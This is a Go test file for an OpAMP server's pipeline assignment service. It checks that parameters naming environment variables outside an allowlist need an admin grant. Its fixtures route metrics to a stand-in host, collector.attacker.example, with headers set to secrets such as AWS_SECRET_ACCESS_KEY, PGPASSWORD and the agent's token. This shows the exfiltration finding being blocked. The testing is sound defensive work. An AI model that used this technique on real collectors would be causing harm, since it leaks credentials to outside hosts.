package assignment

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/phoenix/platform/opamp-server/apitypes"
	"github.com/phoenix/platform/opamp-server/store"
	"github.com/phoenix/platform/pipelines/catalog"
)

func withAllowlist(patterns ...string) func(*Settings) {
	return func(set *Settings) { set.EnvAllowlist = patterns }
}

// otlpTo sends a pipeline's metrics to an OTLP endpoint of the caller's
// choice, with more parameters.
func otlpTo(more map[string]any) map[string]any {
	params := map[string]any{"destination": "otlp_http", "otlp_endpoint": "https://collector.attacker.example:4318"}
	for k, v := range more {
		params[k] = v
	}
	return params
}

// Finding: an operator could make every collector send any variable of its
// environment to a host of theirs through the catalog's parameters that
// name variables.
func TestEnvParamsOutsideTheAllowlistNeedTheGrant(t *testing.T) {
	t.Parallel()
	s, st, _ := newService(t, withAllowlist(DefaultEnvAllowlist...))
	ctx := t.Context()
	require.NoError(t, st.UpsertAgent(ctx, apitypes.Agent{InstanceUID: "a1", Labels: map[string]string{"env": "prod"}}))

	refused := []struct {
		name   string
		params map[string]any
		want   catalog.EnvUse
	}{
		{"header", otlpTo(map[string]any{"otlp_env_headers": map[string]any{"authorization": "AWS_SECRET_ACCESS_KEY"}}),
			catalog.EnvUse{Param: "otlp_env_headers", Key: "authorization", Name: "AWS_SECRET_ACCESS_KEY"}},
		{"license key", map[string]any{"destination": "newrelic", "newrelic_license_key_env": "PGPASSWORD"},
			catalog.EnvUse{Param: "newrelic_license_key_env", Name: "PGPASSWORD"}},
		{"the agent's credential", otlpTo(map[string]any{"otlp_env_headers": map[string]any{"authorization": apitypes.AgentTokenEnv}}),
			catalog.EnvUse{Param: "otlp_env_headers", Key: "authorization", Name: apitypes.AgentTokenEnv}},
		{"patterns match whole names", otlpTo(map[string]any{"otlp_env_headers": map[string]any{"x": "XOTLP_KEY"}}),
			catalog.EnvUse{Param: "otlp_env_headers", Key: "x", Name: "XOTLP_KEY"}},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			req := apitypes.AssignRequest{Pipeline: "baseline", Parameters: tc.params}
			_, err := s.FromRequest(ctx, "a1", req, Grants{})
			denied, ok := AsHostAccess(err)
			require.True(t, ok, "want a HostAccessError, got %v", err)
			assert.Equal(t, []catalog.EnvUse{tc.want}, denied.Params)
			assert.Empty(t, denied.Accesses)
			assert.Contains(t, err.Error(), "needs the admin role")
			assert.Contains(t, err.Error(), "parameter "+tc.want.Param+": names environment variable "+tc.want.Name)
			assert.Contains(t, err.Error(), "agent_env_allowlist does not allow")

			_, err = s.AssignMatching(ctx, "env=prod", req, Grants{})
			assert.Error(t, err)
			_, err = st.GetAssignment(ctx, "a1")
			assert.ErrorIs(t, err, store.ErrNotFound, "nothing is stored")

			asg, err := s.FromRequest(ctx, "a1", req, Grants{HostAccess: true})
			require.NoError(t, err, "an admin may")
			assert.Contains(t, asg.Config, "${env:"+tc.want.Name+"}")
		})
	}

	allowed := map[string]map[string]any{
		"allowlisted header":                 otlpTo(map[string]any{"otlp_env_headers": map[string]any{"authorization": "OTLP_AUTH"}}),
		"the catalog's license key variable": map[string]any{"destination": "newrelic"},
		"the license key variable given":     map[string]any{"destination": "newrelic", "newrelic_license_key_env": "NEW_RELIC_LICENSE_KEY"},
		"a variable no configuration reads":  map[string]any{"destination": "none", "newrelic_license_key_env": "AWS_SECRET_ACCESS_KEY"},
	}
	for name, params := range allowed {
		_, err := s.FromRequest(ctx, "a1", apitypes.AssignRequest{Pipeline: "baseline", Parameters: params}, Grants{})
		assert.NoError(t, err, name)
	}
}

func TestEnvAllowlistIsTheServers(t *testing.T) {
	t.Parallel()
	header := apitypes.AssignRequest{Pipeline: "baseline",
		Parameters: otlpTo(map[string]any{"otlp_env_headers": map[string]any{"x-key": "DD_API_KEY"}})}

	s, st, _ := newService(t, withAllowlist("DD_*"))
	require.NoError(t, st.UpsertAgent(t.Context(), apitypes.Agent{InstanceUID: "a1"}))
	_, err := s.FromRequest(t.Context(), "a1", header, Grants{})
	require.NoError(t, err)
	checked, err := s.Validate(t.Context(), verbatim(`    headers: {x-key: "${env:DD_API_KEY}"}`, ""))
	require.NoError(t, err)
	assert.Empty(t, checked.HostAccess, "a verbatim configuration may read what a parameter may name")

	s, st, _ = newService(t) // no allowlist: only the catalog's own variables
	require.NoError(t, st.UpsertAgent(t.Context(), apitypes.Agent{InstanceUID: "a1"}))
	_, err = s.FromRequest(t.Context(), "a1", header, Grants{})
	_, denied := AsHostAccess(err)
	assert.True(t, denied, "%v", err)
	_, err = s.FromRequest(t.Context(), "a1", apitypes.AssignRequest{Pipeline: "baseline",
		Parameters: otlpTo(map[string]any{"otlp_env_headers": map[string]any{"authorization": "NEW_RELIC_LICENSE_KEY"}})}, Grants{})
	assert.NoError(t, err, "the catalog's own variables stay allowed")

	s, st, _ = newService(t, func(set *Settings) { set.EnvAllowlist = []string{"PHOENIX_*"} })
	require.NoError(t, st.UpsertAgent(t.Context(), apitypes.Agent{InstanceUID: "a1"}))
	_, err = s.FromRequest(t.Context(), "a1", apitypes.AssignRequest{Pipeline: "baseline",
		Parameters: otlpTo(map[string]any{"otlp_env_headers": map[string]any{"authorization": apitypes.AgentTokenEnv}})}, Grants{})
	_, denied = AsHostAccess(err)
	assert.True(t, denied, "no allowlist lets the agent's credential go elsewhere: %v", err)
}

func TestEnvAllowlistPatterns(t *testing.T) {
	t.Parallel()
	assert.NoError(t, CheckEnvAllowlist([]string{"OTLP_*", "NEW_RELIC_LICENSE_KEY", "DD_[A-Z]*", "X?"}))
	err := CheckEnvAllowlist([]string{"", "OTLP_[", "a/b", "OK"})
	require.Error(t, err)
	for _, bad := range []string{`""`, `"OTLP_["`, `"a/b"`} {
		assert.Contains(t, err.Error(), bad)
	}
	assert.NotContains(t, err.Error(), `"OK"`)

	s, _, _ := newService(t)
	set := s.set
	set.EnvAllowlist = []string{"OTLP_["}
	_, err = New(set)
	assert.ErrorContains(t, err, "agent_env_allowlist")
}
